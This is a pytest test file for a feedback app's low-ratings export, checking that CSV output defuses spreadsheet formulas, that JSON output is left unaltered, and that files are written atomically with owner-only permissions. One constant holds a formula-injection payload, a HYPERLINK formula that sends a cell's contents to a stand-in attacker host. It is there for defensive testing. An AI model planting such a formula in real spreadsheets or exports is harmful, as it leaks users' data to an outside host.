"""`low-ratings export`: files for spreadsheets and programs."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING

import pytest

from feedback_app.report.export import harmless
from tests.making import incoming

if TYPE_CHECKING:
    from pathlib import Path

    from tests.cli.conftest import Cli, Ledger

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def dangerous(cli: Cli, ledger: Ledger) -> None:
    """Keep a low rating whose comment a spreadsheet would calculate."""
    ledger.processed([incoming(rating=2, comment=FORMULA)])


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "  =1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\u3000=1",
    ],
)
def test_a_text_that_a_spreadsheet_would_calculate_gets_an_apostrophe(text: str) -> None:
    """Also behind blanks, and in full-width form."""
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("value", ["good", "1=1", "", "'=1", -1, 2.5, None])
def test_everything_else_stays_as_it_is(value: object) -> None:
    """Numbers are numbers, below zero as well."""
    assert harmless(value) == value


@pytest.mark.usefixtures("dangerous")
def test_csv_quotes_texts_and_never_numbers(cli: Cli) -> None:
    """Whatever stands in a comment, it stays in its cell."""
    out = cli.ok("low-ratings", "export").out
    row = next(csv.DictReader(io.StringIO(out)))

    assert out.splitlines()[1].startswith('1,1,2,"umbrella","c1","",')
    assert row["comment"] == f"'{FORMULA}"
    assert row["notes"] == "[]"


@pytest.mark.usefixtures("dangerous")
def test_raw_leaves_texts_as_they_are(cli: Cli) -> None:
    """For programs that read CSV and calculate nothing."""
    out = cli.ok("low-ratings", "export", "--raw").out

    assert next(csv.DictReader(io.StringIO(out)))["comment"] == FORMULA


@pytest.mark.usefixtures("dangerous")
def test_json_and_json_lines_hold_what_the_list_holds(cli: Cli) -> None:
    """Nothing is altered in them."""
    listed = cli.ok("low-ratings", "list", "--json").json

    assert cli.ok("low-ratings", "export", "--format", "json").json == listed
    lines = cli.ok("low-ratings", "export", "--format", "jsonl").out.splitlines()
    assert [json.loads(line) for line in lines] == listed


@pytest.mark.parametrize(("form", "empty"), [("json", "[]\n"), ("jsonl", "")])
def test_no_low_ratings_are_an_empty_file(cli: Cli, form: str, empty: str) -> None:
    """An empty array is valid JSON, no line is valid JSON lines."""
    assert cli.ok("low-ratings", "export", "--format", form).out == empty


@pytest.mark.usefixtures("dangerous")
def test_a_file_is_replaced_as_a_whole_and_for_its_owner_only(cli: Cli, folder: Path) -> None:
    """It holds customers' words; stdout stays free."""
    (folder / "low.csv").write_text("old")

    result = cli.ok("low-ratings", "export", "-o", "low.csv", "--state", "open")

    assert (result.out, result.err) == ("", "low.csv: 1 written\n")
    assert FORMULA[:10] in (folder / "low.csv").read_text()
    assert (folder / "low.csv").stat().st_mode & 0o777 == 0o600
    assert [file.name for file in folder.glob("*low.csv*")] == ["low.csv"]


def test_a_failed_export_leaves_the_old_file(cli: Cli, folder: Path) -> None:
    """A nightly job never leaves half a file behind."""
    (folder / "low.csv").write_text("old")
    (folder / "feedback.db").write_text("this is no database, and long enough to be looked at as one" * 10)

    assert cli("low-ratings", "export", "-o", "low.csv").code == 65

    assert (folder / "low.csv").read_text() == "old"
    assert list(folder.glob(".*.part")) == []


@pytest.mark.parametrize(
    ("name", "line"),
    [
        (".", ". is no ordinary file; choose another name"),
        ("no/low.csv", "no/low.csv: cannot be written: No such file or directory"),
    ],
)
def test_a_place_where_no_file_can_be_is_refused(cli: Cli, folder: Path, name: str, line: str) -> None:
    """The exit code is that of a file that cannot be made."""
    result = cli("low-ratings", "export", "-o", name)

    assert (73, f"feedback-app: {line}\n") == (result.code, result.err)
